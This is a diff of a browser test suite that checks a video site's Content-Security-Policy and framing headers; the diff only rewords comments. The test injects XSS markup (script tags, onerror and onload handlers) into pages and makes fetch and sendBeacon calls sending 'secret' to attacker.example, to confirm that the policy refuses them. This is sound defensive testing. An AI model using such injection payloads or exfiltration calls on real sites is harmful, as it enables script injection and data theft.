@@ -10,7 +10,7 @@ import { follow, isInspected } from "../../web/headless/follow.ts";
 import { OwnerTab } from "../../web/headless/owner-tab.ts";
 import { fixture } from "../setup/media.ts";
 
-// What the pages' headers let run, load and frame, in Chromium, of the production build.
+// What the headers of the production build's pages allow to run, load and frame, in Chromium.
 
 const serverUrl = inject("serverUrl");
 const TIME_LIMIT = AbortSignal.timeout(280_000);
@@ -23,7 +23,7 @@ let job: CreateJobResponse;
 let joinUrl: string;
 beforeAll(async () => {
   browser = await launchBrowser();
-  // A source that is rewritten first: all of the workers have something to do.
+  // A source that has to be rewritten first, so that each kind of worker runs.
   const file = await fixture("flv-8s.flv");
   const options = { serverUrl, engine: "auto", slots: 1, ladder: "144:140" };
   tab = await OwnerTab.open(browser, options, quiet, async ({ page }) => watchPolicy(page));
@@ -47,7 +47,7 @@ interface Watched {
   attacked?: boolean;
 }
 
-/** Keeps what the policy refuses in the page, from its start. */
+/** Records all refusals by the page's policy from its start on. */
 async function watchPolicy(page: Page): Promise<void> {
   await page.addInitScript(() => {
     const watched = globalThis as unknown as Watched;
@@ -62,12 +62,12 @@ function violations(page: Page): Promise<string[]> {
   return page.evaluate(() => (globalThis as unknown as Watched).violations);
 }
 
-/** Refusals that Chromium logs, in workers too. */
+/** Refusals in Chromium's log, which includes those in workers. */
 function refusals({ log }: { log: readonly string[] }): string[] {
   return log.filter((line) => /Content[- ]Security[- ]Policy|Permissions[- ]Policy/i.test(line));
 }
 
-/** Every page that the site has, with a person at it who made the video. */
+/** Paths of the site's pages, as the video's owner sees them. */
 function paths(): string[] {
   return [
     "/",
@@ -81,7 +81,7 @@ function paths(): string[] {
   ];
 }
 
-/** Other sites may frame it. */
+/** Whether other sites may frame the page. */
 function isPlayerAlone(path: string): boolean {
   return path.endsWith("?embed") || path.startsWith("/embed");
 }
@@ -124,7 +124,7 @@ test("each page shows what it has, and meets no refusal", async () => {
   await context.close();
 });
 
-/** A private video's pictures come, by its owner's token. */
+/** Expects a video element to have frames. */
 async function shown(page: Page, selector: string): Promise<void> {
   const video = page.locator(selector).first();
   await video.waitFor({ state: "attached" });
@@ -133,7 +133,7 @@ async function shown(page: Page, selector: string): Promise<void> {
     .toBeGreaterThan(1);
 }
 
-/** So does its poster. */
+/** Expects an image to load. */
 async function pictured(page: Page, selector: string): Promise<void> {
   const image = page.locator(selector).first();
   await expect
@@ -181,7 +181,7 @@ test("a private video opens by a link, and for its passphrase, in any browser", 
 
 describe("what was smuggled into a page", () => {
   const MARK = "globalThis.attacked = true";
-  /** Each kind of what would run it, as markup in the page's own file. */
+  /** Markup that is put into the page's HTML: each way in which it could run a script. */
   const MARKUP = `<script>${MARK}</script>
     <img src="/none" onerror="${MARK}">
     <svg onload="${MARK}"></svg>
@@ -207,7 +207,7 @@ describe("what was smuggled into a page", () => {
         await route.fulfill({ response, body });
       });
       await page.goto(serverUrl + path);
-      // Scripts of the page itself can still be injected into, after it was loaded.
+      // The same through the DOM, after the page was loaded.
       await page.evaluate((mark) => {
         const image = document.createElement("img");
         const link = document.createElement("a");
@@ -245,7 +245,7 @@ describe("what was smuggled into a page", () => {
         void fetch("https://attacker.example/?secret").catch(() => {});
         navigator.sendBeacon("https://attacker.example/", "secret");
       }, MARK);
-      // Two scripts, two handlers, two addresses, an object, the base address, and the later requests.
+      // Refused: scripts, event handlers, script URLs, an object, the base address, and requests to the other site.
       await expect
         .poll(async () => (await violations(page)).length, { message: path })
         .toBeGreaterThan(9);
@@ -286,7 +286,7 @@ describe("a page of another site", () => {
       const framed = `${serverUrl}${path}`;
       await page.goto(`${siteUrl}/?of=${encodeURIComponent(framed)}`);
       const frame = page.frames().find((each) => each !== page.mainFrame());
-      // A refused frame shows an error page of the browser's own.
+      // A refused frame shows the browser's own error page.
       const isShown = (await frame?.evaluate(() => document.querySelector("#page"))) !== null;
       expect(isShown, path).toBe(isPlayerAlone(path));
     }
@@ -314,7 +314,7 @@ describe("headers", () => {
     expect(policy).toContain(trustedTypes);
     for (const [path, each] of policies) {
       const own = path.startsWith("/api") ? policy.replace(trustedTypes, "") : policy;
-      // It encodes nothing, so it runs no WebAssembly.
+      // A page that may be framed encodes nothing, so it needs no WebAssembly.
       const framed = own
         .replace("frame-ancestors 'none'", "frame-ancestors *")
         .replace(" 'wasm-unsafe-eval'", "");
